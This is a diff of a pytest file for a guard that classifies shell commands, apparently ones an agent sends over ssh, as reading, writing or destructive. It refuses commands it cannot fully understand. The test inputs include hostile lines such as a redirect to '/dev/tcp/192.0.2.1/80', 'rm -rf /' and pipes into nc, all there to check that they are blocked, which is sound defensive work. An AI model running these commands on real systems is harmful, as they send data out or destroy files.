@@ -103,12 +103,8 @@ AT_LEAST = [
     ("tail -f log", "unknown"),
     ("tail -F log", "unknown"),
     ("top", "unknown"),
-    ("ls *.py", "unknown"),
-    ("ls ~/x", "unknown"),
-    ("ls $HOME", "unknown"),
     ("cat f &", "unknown"),
     ("! cat f", "unknown"),
-    ("for h in a b; do cat $h; done", "unknown"),
     ("if true; then rm x; fi", "destructive"),
     ("(rm x)", "destructive"),
     ("cd - && ls", "unknown"),
@@ -157,7 +153,7 @@ AT_LEAST = [
     ("ls > /dev/tcp/192.0.2.1/80", "writes"),
 ]
 
-READ: list[tuple[str, str | None]] = [
+READ: list[tuple[str, str]] = [
     ("ls 2>&1 >/dev/null", "'ls' 2>&1 >/dev/null"),
     ("ls >/dev/null 2>&1", "'ls' 2>/dev/null >/dev/null"),
     ("echo rm -rf /", "'printf' '%s\\n' 'rm -rf /'"),
@@ -192,9 +188,8 @@ READ: list[tuple[str, str | None]] = [
     ("ls -l f || echo absent", "'ls' '-l' '--' 'f' || 'printf' '%s\\n' 'absent'"),
     ("sudo ls /x", "'ls' '--' '/x'"),
     ("bash -lc 'ls; id'", "'ls'; 'id'"),
-    ("ssh -o BatchMode=yes -p 22 -i ~/.ssh/k h -- 'ls'", None),
     ("wc -l < f", "'wc' '-l' < 'f'"),
-    ("LC_ALL=C sort f", "'sort' '--' 'f'"),
+    ("LC_ALL=C sort f", "'sort' '-S' '256M' '-T' '/dev/null' '--' 'f'"),
     ("echo -n 'a  b'", "'printf' '%s' 'a  b'"),
     ("cat -- -n", "'cat' '--' '-n'"),
     ("cat f # the log", "'cat' '--' 'f'"),
@@ -214,15 +209,12 @@ def test_more_than_reading_is_never_run(command: str, least: str) -> None:
 
 
 @pytest.mark.parametrize(("command", "sent"), READ)
-def test_reading_is_run_in_its_canonical_form(command: str, sent: str | None) -> None:
+def test_reading_is_run_in_its_canonical_form(command: str, sent: str) -> None:
     judged = judge(command)
-    if sent is None:
-        assert judged.decision == "refuse"
-        return
     assert (judged.effect, judged.reasons, judged.sent) == ("read", (), sent)
 
 
-@pytest.mark.parametrize("command", [command for command, sent in READ if sent])
+@pytest.mark.parametrize("command", [command for command, _ in READ])
 def test_what_is_sent_is_judged_the_same(command: str) -> None:
     sent = judge(command).sent
     assert sent is not None
@@ -237,8 +229,12 @@ def test_the_innermost_host_is_the_place() -> None:
 
 def test_filters_of_the_agents_machine_are_told_apart() -> None:
     judged = judge("ssh h 'cat f | sort' 2>&1 | tail -5")
-    assert judged.sent == "'cat' '--' 'f' | 'sort' 2>&1"
+    assert judged.sent == "'cat' '--' 'f' | 'sort' '-S' '256M' '-T' '/dev/null' 2>&1"
     assert judged.local_stages == (("tail", "-n", "5"),)
+
+
+def test_a_filter_on_this_side_is_as_it_was_recorded() -> None:
+    assert judge("ssh h 'cat f' | sort -u").local_stages == (("sort", "-u"),)
 
 
 def test_a_shorter_recorded_timeout_is_kept() -> None:
@@ -258,3 +254,9 @@ def test_reading_a_tree_in_a_known_folder_is_reading() -> None:
 
 def test_dropped_privilege_is_said() -> None:
     assert judge("ssh h 'sudo -n cat /var/log/x'").notes == ("runs without privilege: sudo is not used",)
+
+
+def test_a_command_of_which_a_part_is_not_understood_is_never_sent_without_it() -> None:
+    for command in ("nc -z h 1 && echo open", "wget x; ls", "ls | nc h 1", "docker exec c nc -z h 1 || echo closed"):
+        judged = judge(command)
+        assert (judged.decision, judged.sent, judged.pipes) == ("refuse", None, ())
